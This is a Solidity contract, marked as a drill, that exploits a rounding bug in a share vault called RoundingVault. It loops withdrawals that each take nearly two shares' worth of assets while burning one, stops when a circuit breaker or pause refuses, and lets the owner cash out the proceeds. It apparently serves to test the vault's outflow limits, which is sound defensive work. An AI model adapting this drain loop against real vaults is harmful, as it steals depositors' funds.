// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RoundingVault} from "./RoundingVault.sol";

/// @title RoundingAttacker
/// @notice DRILL ONLY. Loops RoundingVault's rounding bug: each `withdraw` takes just under two
/// shares' worth and burns one. Stops at the first refused withdrawal (e.g. the breaker's outflow
/// limit or a pause), so a capped transaction still lands with what it got; a transaction that
/// got nothing reverts (NothingDrained). Profits stay here
/// until `cashOut`.
contract RoundingAttacker {
    RoundingVault public immutable vault;
    IERC20 public immutable asset;
    address public immutable owner;

    event Drained(uint256 loops, uint256 taken, uint256 sharesBurned);

    error NotOwner(address caller);
    error NothingDrained();

    constructor(RoundingVault vault_) {
        vault = vault_;
        asset = vault_.asset();
        owner = msg.sender;
        asset.approve(address(vault_), type(uint256).max);
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /// @notice Buy shares with `assets` of this contract's tokens (a separate, harmless-looking tx).
    function deposit(uint256 assets) external onlyOwner {
        vault.deposit(assets);
    }

    /// @notice Up to `maxLoops` withdrawals of (2 shares' worth - 1 wei), each burning one share.
    function drain(uint256 maxLoops) external onlyOwner returns (uint256 loops, uint256 taken) {
        uint256 sharesBefore = vault.balanceOf(address(this));
        for (; loops < maxLoops; ++loops) {
            if (vault.balanceOf(address(this)) == 0) break;
            uint256 supply = vault.totalSupply();
            uint256 amount = (2 * vault.totalAssets() - 1) / supply; // burns floor(<2) = 1 share
            try vault.withdraw(amount) {
                taken += amount;
            } catch {
                break;
            }
        }
        if (taken == 0) revert NothingDrained(); // capped or paused: let the transaction show it
        emit Drained(loops, taken, sharesBefore - vault.balanceOf(address(this)));
    }

    /// @notice Send the tokens to the owner.
    function cashOut() external onlyOwner {
        asset.transfer(owner, asset.balanceOf(address(this)));
    }
}
